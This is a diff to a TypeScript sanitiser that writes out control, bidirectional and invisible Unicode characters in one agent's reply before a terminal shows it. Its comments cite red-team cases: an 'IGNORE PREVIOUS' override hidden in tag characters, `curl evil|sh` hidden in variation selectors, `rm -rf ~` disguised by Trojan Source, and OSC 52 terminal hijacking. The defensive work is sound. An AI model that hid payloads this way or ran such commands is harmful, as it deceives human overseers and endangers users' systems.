@@ -1,45 +1,38 @@
 /** Another agent's text as a terminal shows it. */
 
 /**
- * C0 and C1 control characters and DEL, but for the newline and the tab; the bidirectional embeddings, overrides
- * and isolates, which reorder what follows them on screen ("Trojan Source", CVE-2021-42574): a reply's `rm -rf ~`
- * could show as something else; and the tag characters (U+E0000-E007F), which a terminal shows as nothing while an
- * agent reads them as text (red team 61: "hello" on screen carried "IGNORE PREVIOUS" to the agent). The marks (LRM,
- * RLM, ALM) stay: right-to-left text uses them, and they reorder nothing by themselves.
+ * What a terminal must not be handed as it is. Written out: the C0 and C1 control characters and DEL, but for the
+ * newline and the tab (an escape sequence would drive the operator's terminal: set its title, write its clipboard
+ * with OSC 52, hide or overwrite what is shown; red team, session 52), the line and paragraph separators, and every
+ * default-ignorable character, which a terminal shows as nothing while an agent reads it: the bidirectional
+ * embeddings, overrides and isolates, which reorder what follows them on screen ("Trojan Source", CVE-2021-42574:
+ * `rm -rf ~` shown as something else); the tag characters (red team 61: "hello" on screen carried "IGNORE PREVIOUS"
+ * to the agent); zero-width spaces, joiners and fillers, variation selectors (red team 62: one byte each under
+ * "Sure … ok"). Kept, in the one place each has a use (group 1): the flags of England, Scotland and Wales (tag
+ * letters after a black flag); VS15/16 after an emoji or a keycap's digit, VS1-14 after a math symbol; ZWJ and ZWNJ
+ * between letters, marks or pictographs (emoji sequences, Indic conjuncts, Persian); a mark (LRM, RLM, ALM) that
+ * follows no other mark (right-to-left text uses them; they reorder nothing by themselves). None of those can follow
+ * another, so what they can carry is a bit or two per visible character.
  */
-const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/gu;
-
-/**
- * Characters a terminal shows as nothing, which an agent still reads: a sender can hide a payload in them under
- * harmless text (red team 62: "Sure … ok" on screen, `curl evil|sh` for the agent, one byte per variation selector).
- * Always: the zero-width space, word joiner and invisible operators, BOM, soft hyphen, CGJ, the Khmer and Mongolian
- * invisibles, the Hangul fillers, the line and paragraph separators. In context: a variation selector is kept only
- * right after a character it can vary (VS15/16 after an emoji or a keycap's digit, VS1-14 after a math symbol, a
- * CJK ideograph or the scripts that define sequences with them, VS17-256 after an ideograph), so never two in a row;
- * ZWJ and ZWNJ only between letters, marks or pictographs (emoji sequences, Indic conjuncts, Persian), so never two
- * in a row either. What is left carries a bit or two per visible character at most.
- */
-const INVISIBLE = new RegExp(
-  [
-    String.raw`[\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u200b\u2028\u2029\u2060-\u2064\u3164\ufeff\uffa0]`,
-    String.raw`(?<![\p{Sm}\p{Ideographic}\p{sc=Myanmar}\p{sc=Phags_Pa}\p{sc=Manichaean}])[\ufe00-\ufe0d]`,
-    String.raw`(?<!\p{Emoji})[\ufe0e\ufe0f]`,
-    String.raw`(?<!\p{Ideographic})[\u{e0100}-\u{e01ef}]`,
-    String.raw`(?<![\p{L}\p{M}\p{Extended_Pictographic}\p{Emoji_Modifier}\ufe0f])[\u200c\u200d]`,
-    String.raw`[\u200c\u200d](?![\p{L}\p{M}\p{Extended_Pictographic}])`,
-  ].join("|"),
+const NOT_AS_IS = new RegExp(
+  "(" +
+    [
+      String.raw`\u{1f3f4}\u{e0067}\u{e0062}(?:\u{e0065}\u{e006e}\u{e0067}|\u{e0073}\u{e0063}\u{e0074}|\u{e0077}\u{e006c}\u{e0073})\u{e007f}`,
+      String.raw`(?<=\p{Emoji})[\ufe0e\ufe0f]`,
+      String.raw`(?<=\p{Sm})[\ufe00-\ufe0d]`,
+      String.raw`(?<=[\p{L}\p{M}\p{Extended_Pictographic}\p{Emoji_Modifier}\ufe0f])[\u200c\u200d](?=[\p{L}\p{M}\p{Extended_Pictographic}])`,
+      String.raw`(?<![\u200e\u200f\u061c])[\u200e\u200f\u061c]`,
+    ].join("|") +
+    ")" + String.raw`|[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\p{Default_Ignorable_Code_Point}]`,
   "gu",
 );
 
 /**
- * `text` with its control characters written out (`\u001b`), for a terminal: a reply is another agent's, and an
- * escape sequence in it would otherwise drive the operator's terminal (set its title, write its clipboard with OSC 52,
- * hide or overwrite what is shown; red team, session 52), and the characters it would show as nothing (`INVISIBLE`).
- * Newlines and tabs stay. Written as JSON writes them, so that
- * a JSON log line keeps parsing (JSON.stringify leaves DEL and the C1 controls as they are).
+ * `text` as a terminal may show it (`NOT_AS_IS`), what it must not be handed written out (`\u001b`). Written as JSON
+ * writes them, so that a JSON log line keeps parsing (JSON.stringify leaves DEL and the C1 controls as they are).
  */
 export function visibleControls(text: string): string {
-  return text.replace(CONTROLS, writtenOut).replace(INVISIBLE, writtenOut);
+  return text.replace(NOT_AS_IS, (found, kept: string | undefined) => kept ?? writtenOut(found));
 }
 
 /** What ends a line for some reader: the newline, CR, VT, FF, the separators U+001C-001E, NEL, U+2028 and U+2029 (Python's `splitlines`). */
